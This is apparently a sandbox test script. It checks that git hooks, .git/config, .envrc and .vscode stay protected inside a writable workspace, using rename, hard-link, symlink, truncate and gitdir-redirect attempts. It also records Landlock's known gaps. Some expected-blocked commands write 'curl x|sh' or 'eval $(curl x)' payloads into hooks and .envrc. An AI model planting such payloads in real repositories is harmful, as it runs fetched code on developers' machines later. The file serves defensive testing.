# SPDX-License-Identifier: GPL-2.0
# Protected paths (spec.filesystem.protected): read-only inside the
# writable workspace, because they run code later, outside the fence.
# BPF LSM backends: by identity, and by (parent, name) for those that
# do not exist yet. Landlock backend: read-only bind mounts, and pins of
# the directories on their way; one that does not exist yet is a gap
# run states.
source "$(dirname "$0")/escape.inc"

# policy [missing]: a workspace with .git/hooks/pre-commit, .git/config
# and .envrc, unless "missing" (then none of it exists).
policy() {
	if [ "${1:-}" != missing ]; then
		mkdir -p ws/.git/hooks ws/.git/objects
		echo orig >ws/.git/config
		printf '#!/bin/sh\nexit 0\n' >ws/.git/hooks/pre-commit
		echo orig >ws/.envrc
	fi
	esc_policy '  filesystem:' \
		'    writable: ["${WORKSPACE}", /dev/null]' \
		'    protected: [.git/hooks, .git/config, .envrc, .vscode]'
}

unchanged() {
	assert_file_eq ws/.git/config orig ".git/config"
	assert_file_eq ws/.envrc orig ".envrc"
	assert_eq "$(printf '#!/bin/sh\nexit 0')" "$(cat ws/.git/hooks/pre-commit)" "the hook"
	assert_missing ws/.git/hooks/post-checkout "a new hook"
}

test_write() {
	policy
	held "echo pwned >$T/ws/.git/config"
	held "echo pwned >>$T/ws/.envrc"
	held "echo 'curl x|sh' >>$T/ws/.git/hooks/pre-commit"
	unchanged
	allowed "cat $T/ws/.git/config && echo new >$T/ws/.git/objects/o && echo y >$T/ws/f"
}

test_truncate() {
	policy
	held "truncate -s0 $T/ws/.git/config"
	held "$PY -c 'import os; fd = os.open(\"$T/ws/.envrc\", os.O_RDONLY); os.truncate(\"$T/ws/.envrc\", 0)'"
	unchanged
}

test_create_hook() {
	policy
	held "echo 'curl x|sh' >$T/ws/.git/hooks/post-checkout"
	held "ln -s /bin/true $T/ws/.git/hooks/post-checkout"
	held "mkfifo $T/ws/.git/hooks/post-checkout"
	unchanged
}

test_delete() {
	policy
	held "rm $T/ws/.git/config"
	held "rm $T/ws/.git/hooks/pre-commit"
	held "rm -r $T/ws/.git/hooks"
	unchanged
}

# git's own way of writing a file: a lock file renamed into place.
test_rename_over() {
	policy
	held "echo pwned >$T/ws/x && mv -f $T/ws/x $T/ws/.git/config"
	held "echo pwned >$T/ws/x && mv -f $T/ws/x $T/ws/.envrc"
	held "echo pwned >$T/ws/x && mv -f $T/ws/x $T/ws/.git/hooks/pre-commit"
	unchanged
}

test_rename_away_and_replace() {
	policy
	held "mv $T/ws/.git/hooks $T/ws/.git/h2 && mkdir $T/ws/.git/hooks && echo x >$T/ws/.git/hooks/post-checkout"
	held "mv $T/ws/.git/config $T/ws/.git/c2 && echo pwned >$T/ws/.git/config"
	unchanged
}

# The directory on the way: rename .git, make a new one.
test_rename_parent_and_replace() {
	policy
	held "mv $T/ws/.git $T/ws/g2 && mkdir -p $T/ws/.git/hooks && echo x >$T/ws/.git/hooks/post-checkout"
	unchanged
}

test_hard_link() {
	policy
	held "ln $T/ws/.git/config $T/ws/cfg && echo pwned >>$T/ws/cfg"
	held "ln $T/ws/.git/hooks/pre-commit $T/ws/h && echo pwned >>$T/ws/h"
	unchanged
}

test_metadata() {
	policy
	held "chmod 777 $T/ws/.git/config"
	held "chmod 777 $T/ws/.git/hooks"
	held "touch -d 2001-01-01 $T/ws/.envrc"
	held "$PY -c 'import os; os.setxattr(\"$T/ws/.git/config\", \"trusted.af\", b\"1\")'"
	assert_eq 644 "$(stat -c %a ws/.git/config)" "mode"
}

test_proc_fd_reopen() {
	policy
	held "exec 3<$T/ws/.git/config; echo pwned >/proc/self/fd/3"
	unchanged
}

# Paths that do not exist yet: the BPF backends name them; Landlock
# cannot deny beneath an allowed directory, and run says so.
test_create_missing_file() {
	policy missing
	mkdir -p ws/.git
	gap_on landlock "protected paths not there yet" "a protected path that does not exist yet can be created (Landlock cannot deny beneath a writable path)"
	held "echo 'eval \$(curl x)' >$T/ws/.envrc"
	assert_missing ws/.envrc ".envrc"
}

test_create_missing_dir() {
	policy missing
	mkdir -p ws/.git
	gap_on landlock "protected paths not there yet" "a protected path that does not exist yet can be created"
	held "mkdir $T/ws/.git/hooks && echo x >$T/ws/.git/hooks/post-checkout"
	assert_missing ws/.git/hooks ".git/hooks"
}

test_rename_into_missing() {
	policy missing
	mkdir -p ws/.git ws/evil
	echo x >ws/evil/post-checkout
	gap_on landlock "protected paths not there yet" "a protected path that does not exist yet can be renamed into place"
	held "mv $T/ws/evil $T/ws/.git/hooks"
	assert_missing ws/.git/hooks ".git/hooks"
}

test_symlink_missing() {
	policy missing
	mkdir -p ws/.git ws/elsewhere
	gap_on landlock "protected paths not there yet" "a protected path that does not exist yet can be made a symlink"
	held "ln -s $T/ws/elsewhere $T/ws/.vscode"
	assert_missing ws/.vscode ".vscode"
}

# No .git at all: git init's own .git may be made, and its hooks are
# then protected as they appear.
test_missing_parent_dir() {
	policy missing
	gap_on landlock "protected paths not there yet" "a protected path beneath a directory that does not exist yet can be created"
	held "mkdir -p $T/ws/.git/hooks && echo x >$T/ws/.git/hooks/post-checkout"
	assert_missing ws/.git/hooks/post-checkout "the hook"
}

# A .git file (gitdir: elsewhere) or symlink moves .git/hooks anywhere.
test_git_file_redirect() {
	policy missing
	mkdir -p ws/other/hooks
	gap_on landlock "protected paths not there yet" "the directory on a protected path's way can be made a file or symlink"
	held "echo 'gitdir: $T/ws/other' >$T/ws/.git"
	held "ln -s $T/ws/other $T/ws/.git"
	assert_missing ws/.git ".git"
}

for BACKEND in $(esc_backends); do
	export BACKEND AF_TEST_TAG=$(esc_tag)
	af_main "$@"
done
